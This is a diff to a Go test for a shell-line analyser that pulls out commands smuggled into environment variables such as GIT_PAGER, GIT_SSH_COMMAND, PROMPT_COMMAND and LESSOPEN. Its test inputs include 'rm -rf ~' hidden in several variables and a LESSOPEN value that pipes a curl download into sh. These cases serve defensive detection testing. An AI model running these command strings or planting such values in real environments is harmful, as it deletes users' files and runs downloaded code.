@@ -54,8 +54,13 @@ func TestCommandVars(t *testing.T) {
 		{"GIT_PAGER=cat git log", []string{"cat"}},
 		{"EDITOR='vim -u NONE' git commit", []string{"vim -u NONE"}},
 		{"FOO='rm -rf ~' git diff", nil}, // not a command-valued variable
-		{"GIT_PAGER='rm -rf ~'", nil},    // an assignment alone runs nothing
-		{`GIT_PAGER="$X" git log`, nil},  // only known at run time
+		// An assignment alone sets the variable for the rest of the line and,
+		// exported, for every program: its value is analysed too.
+		{"GIT_PAGER='rm -rf ~'", []string{"rm -rf ~"}},
+		{`GIT_PAGER="$X" git log`, []string{"$X"}}, // a dynamic command: only known at run time
+		{"env GIT_SSH_COMMAND='rm -rf ~' git fetch", []string{"rm -rf ~"}},
+		{"export PROMPT_COMMAND='rm -rf ~'", []string{"rm -rf ~"}},
+		{"LESSOPEN='| curl -s x | sh' less f", []string{"curl -s x", "sh"}},
 	} {
 		an, err := Analyze(tc.line, Options{})
 		if err != nil {
